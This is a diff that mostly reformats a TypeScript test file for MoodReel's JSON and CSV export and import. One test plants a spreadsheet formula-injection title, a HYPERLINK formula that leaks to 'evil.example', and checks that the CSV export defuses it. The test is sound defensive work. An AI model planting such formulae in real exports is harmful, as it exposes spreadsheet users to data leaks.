@@ -57,7 +57,13 @@ describe('"not this film"', () => {
   });
 
   it('a damaged list in an export is refused with a message', async () => {
-    const text = JSON.stringify({ format: 'moodreel-export', version: 1, films: [], feedback: [], unmatched: [{ title: 42 }] });
+    const text = JSON.stringify({
+      format: 'moodreel-export',
+      version: 1,
+      films: [],
+      feedback: [],
+      unmatched: [{ title: 42 }],
+    });
     expect(await readJsonExport(text)).toEqual({ ok: false, message: expect.stringMatching(/unmatched/) });
   });
 });
@@ -76,10 +82,17 @@ describe('JSON export', () => {
     expect(await target.exportState()).toEqual(await source.exportState());
     expect(await target.allFilms()).toEqual(await source.allFilms());
     // "Not this film" travels with the feedback.
-    expect((await target.listUnmatched()).map((row) => [row.key, row.title, row.filmId])).toEqual([['outlander', 'Outlander', '65982']]);
+    expect((await target.listUnmatched()).map((row) => [row.key, row.title, row.filmId])).toEqual([
+      ['outlander', 'Outlander', '65982'],
+    ]);
   });
 
-  const body = () => JSON.parse(toJsonExport({ films: mine, feedback: votes })) as { films: Record<string, unknown>[]; feedback: Record<string, unknown>[]; [key: string]: unknown };
+  const body = () =>
+    JSON.parse(toJsonExport({ films: mine, feedback: votes })) as {
+      films: Record<string, unknown>[];
+      feedback: Record<string, unknown>[];
+      [key: string]: unknown;
+    };
   const messageFor = async (text: string) => {
     const read = await readJsonExport(text);
     expect(read.ok).toBe(false);
@@ -98,7 +111,9 @@ describe('JSON export', () => {
     expect(await messageFor(withChange((b) => (b.format = 'other')))).toMatch(/not a MoodReel export/);
     expect(await messageFor(withChange((b) => (b.version = 2)))).toMatch(/version \(2\)/);
     expect(await messageFor(withChange((b) => (b.films = {} as never)))).toMatch(/must be lists/);
-    expect(await messageFor(withChange((b) => (b.feedback[0]!.emotion = 'bored')))).toMatch(/damaged: .*emotion "bored"/);
+    expect(await messageFor(withChange((b) => (b.feedback[0]!.emotion = 'bored')))).toMatch(
+      /damaged: .*emotion "bored"/,
+    );
     expect(await messageFor(withChange((b) => (b.feedback[0]!.vote = 'maybe')))).toMatch(/vote/);
     expect(await messageFor(withChange((b) => (b.feedback[0]!.at = 'yesterday')))).toMatch(/epoch/);
     expect(await messageFor(withChange((b) => b.feedback.push(b.feedback[0]!)))).toMatch(/listed twice/);
@@ -113,7 +128,7 @@ describe('JSON export', () => {
 });
 
 describe('CSV export', () => {
-  it('writes films in the importer\'s own format and feedback with titles', async () => {
+  it("writes films in the importer's own format and feedback with titles", async () => {
     const films = filmsToCsv(mine);
     expect(films.split('\n')[0]).toBe('title,year,genres,rating');
     expect(films.split('\n')[1]).toBe('My Neighbour Totoro,1988,Animation|Children,4.5');
@@ -149,7 +164,11 @@ describe('CSV export', () => {
       return {
         films: films.map(({ id: _id, ...rest }) => rest).sort((a, b) => a.title.localeCompare(b.title)),
         feedback: feedback
-          .map(({ filmId, ...rest }) => ({ ...rest, title: byId.get(filmId)?.title, builtin: filmId.startsWith('imp-') ? null : filmId }))
+          .map(({ filmId, ...rest }) => ({
+            ...rest,
+            title: byId.get(filmId)?.title,
+            builtin: filmId.startsWith('imp-') ? null : filmId,
+          }))
           .sort((a, b) => a.at - b.at),
       };
     };
@@ -158,14 +177,28 @@ describe('CSV export', () => {
 
   it('defuses cells a spreadsheet would run as formulae, and reads them back as they were', async () => {
     const planted = [
-      film({ id: 'imp-f1', title: '=HYPERLINK("http://evil.example/?leak","Click me")', year: 2001, genres: ['Drama'], rating: null }),
+      film({
+        id: 'imp-f1',
+        title: '=HYPERLINK("http://evil.example/?leak","Click me")',
+        year: 2001,
+        genres: ['Drama'],
+        rating: null,
+      }),
       film({ id: 'imp-f2', title: '@SUM(1+1)', year: 2002, genres: ['Comedy'], rating: null }),
       film({ id: 'imp-f3', title: '+1 Year', year: 2003, genres: ['Comedy'], rating: null }),
       film({ id: 'imp-f4', title: '-Heat-', year: 2004, genres: ['Action'], rating: null }),
     ];
     const filmsCsv = filmsToCsv(planted);
-    const cells = filmsCsv.split('\n').slice(1, 5).map((line) => line.split(',')[0]);
-    expect(cells).toEqual(['"\'=HYPERLINK(""http://evil.example/?leak""', '"\'@SUM(1+1)"', '"\'+1 Year"', '"\'-Heat-"']);
+    const cells = filmsCsv
+      .split('\n')
+      .slice(1, 5)
+      .map((line) => line.split(',')[0]);
+    expect(cells).toEqual([
+      '"\'=HYPERLINK(""http://evil.example/?leak""',
+      '"\'@SUM(1+1)"',
+      '"\'+1 Year"',
+      '"\'-Heat-"',
+    ]);
     const preview = await previewCsvImport(filmsCsv, { known: new Set() });
     if (!preview.ok) throw new Error(preview.message);
     expect(preview.films.map((f) => f.title)).toEqual(planted.map((f) => f.title));
